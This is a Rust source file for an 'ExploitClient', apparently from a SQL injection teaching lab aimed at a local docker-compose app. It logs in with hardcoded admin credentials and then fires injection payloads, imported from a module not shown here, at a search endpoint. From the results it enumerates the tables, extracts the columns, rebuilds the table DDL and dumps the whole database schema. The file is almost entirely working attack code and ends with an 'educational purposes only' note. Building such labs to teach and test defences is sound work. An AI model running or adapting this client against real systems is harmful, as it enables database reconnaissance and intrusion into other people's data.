use anyhow::Result;
use reqwest::Client;
use serde::Deserialize;
use serde_json::json;

use super::extract::{
    column_infos, column_pairs, group_schema, render_ddl, table_names, SearchRow,
};
use super::payloads;

pub const DEFAULT_BASE_URL: &str = "http://localhost:5001/api";

#[derive(Debug, Deserialize)]
struct SearchResponse {
    #[serde(default)]
    success: bool,
    #[serde(default)]
    results: Vec<SearchRow>,
}

fn banner(title: &str) {
    println!("\n{}", "=".repeat(60));
    println!("{title}");
    println!("{}", "=".repeat(60));
}

/// Sequential schema-extraction client: authenticate, enumerate tables,
/// enumerate columns, reconstruct DDL, dump the full schema. One HTTP call
/// at a time; a failed stage degrades to "no data" and the run continues.
pub struct ExploitClient {
    http: Client,
    base_url: String,
}

impl ExploitClient {
    pub fn new(base_url: impl Into<String>) -> Result<Self> {
        let http = Client::builder().cookie_store(true).build()?;
        Ok(Self {
            http,
            base_url: base_url.into(),
        })
    }

    pub async fn login_as_admin(&self) -> Result<bool> {
        let response = self
            .http
            .post(format!("{}/login", self.base_url))
            .json(&json!({"username": "admin", "password": "admin123"}))
            .send()
            .await?;

        if response.status().is_success() {
            println!("✓ Login successful!");
            Ok(true)
        } else {
            let body = response.text().await.unwrap_or_default();
            println!("✗ Login failed: {body}");
            Ok(false)
        }
    }

    /// Sends one injection payload to the search endpoint. Any non-200
    /// status or a response without `success`/`results` counts as no data.
    async fn search(&self, payload: &str) -> Result<Vec<SearchRow>> {
        let response = self
            .http
            .get(format!("{}/search", self.base_url))
            .query(&[("username", "admin"), ("q", payload)])
            .send()
            .await?;

        let status = response.status();
        if !status.is_success() {
            let body = response.text().await.unwrap_or_default();
            println!("✗ Request failed: {status}");
            println!("Response: {body}");
            return Ok(Vec::new());
        }

        let parsed: SearchResponse = response.json().await?;
        if !parsed.success {
            println!("✗ No results returned");
            return Ok(Vec::new());
        }
        Ok(parsed.results)
    }

    pub async fn extract_tables(&self) -> Result<Vec<String>> {
        banner("Step 1: Extracting Table Names");

        let rows = self.search(payloads::LIST_TABLES).await?;
        let tables = table_names(&rows);
        if tables.is_empty() {
            println!("✗ No results returned");
            return Ok(tables);
        }

        println!("\n✓ Found {} tables:", tables.len());
        for table in &tables {
            println!("  - {table}");
        }
        Ok(tables)
    }

    /// One structurally identical retry for the table stage; reports raw
    /// names without the seed filter.
    pub async fn extract_tables_fallback(&self) -> Result<Vec<String>> {
        println!("\n⚠ Could not extract tables. Trying alternative method...");

        let rows = self.search(payloads::LIST_TABLES).await?;
        let mut tables: Vec<String> = rows.iter().filter_map(|r| r.text(0)).collect();
        tables.sort();
        tables.dedup();

        if !tables.is_empty() {
            println!("\n✓ Found {} tables using pg_tables:", tables.len());
            for table in &tables {
                println!("  - {table}");
            }
        }
        Ok(tables)
    }

    pub async fn extract_columns(&self, table: &str) -> Result<Vec<(String, String)>> {
        banner(&format!("Step 2: Extracting Columns for Table: {table}"));

        let rows = self.search(&payloads::columns(table)).await?;
        let columns = column_pairs(&rows);
        if columns.is_empty() {
            println!("✗ No results returned");
            return Ok(columns);
        }

        println!("\n✓ Found {} columns:", columns.len());
        for (name, data_type) in &columns {
            println!("  - {name}: {data_type}");
        }
        Ok(columns)
    }

    pub async fn extract_ddl(&self, table: &str) -> Result<()> {
        banner(&format!("Step 3: Extracting DDL for Table: {table}"));

        let rows = self.search(&payloads::column_definitions(table)).await?;
        let columns = column_infos(&rows);
        if columns.is_empty() {
            println!("✗ No results returned");
            return Ok(());
        }

        println!("\n✓ Reconstructed DDL:\n");
        println!("{}", render_ddl(table, &columns));
        Ok(())
    }

    pub async fn extract_full_schema(&self) -> Result<()> {
        banner("Step 4: Extracting All Schema Information");

        let rows = self.search(payloads::FULL_SCHEMA).await?;
        let schema = group_schema(&rows);
        if schema.is_empty() {
            println!("✗ No results returned");
            return Ok(());
        }

        println!("\n✓ Complete Schema Information:");
        for (table, columns) in &schema {
            println!("\nTable: {table}");
            for (column, data_type) in columns {
                println!("  - {column}: {data_type}");
            }
        }
        Ok(())
    }

    /// Drives the full four-step extraction sequence.
    pub async fn run(&self) -> Result<()> {
        println!("SQL Injection Demo - Table Schema Extraction");
        println!("{}", "=".repeat(60));

        if !self.login_as_admin().await? {
            println!("\nPlease make sure:");
            println!("1. The application is running (docker-compose up)");
            println!("2. Backend is accessible at {}", self.base_url);
            return Ok(());
        }

        let mut tables = self.extract_tables().await?;
        if tables.is_empty() {
            tables = self.extract_tables_fallback().await?;
        }

        for table in tables.iter().take(3) {
            let columns = self.extract_columns(table).await?;
            if !columns.is_empty() {
                self.extract_ddl(table).await?;
            }
        }

        self.extract_full_schema().await?;

        println!("\n{}", "=".repeat(60));
        println!("Demo Complete!");
        println!("{}", "=".repeat(60));
        println!("\nNote: These SQL injection techniques are for educational purposes only.");
        println!("In production, always use parameterized queries to prevent SQL injection.");
        Ok(())
    }
}
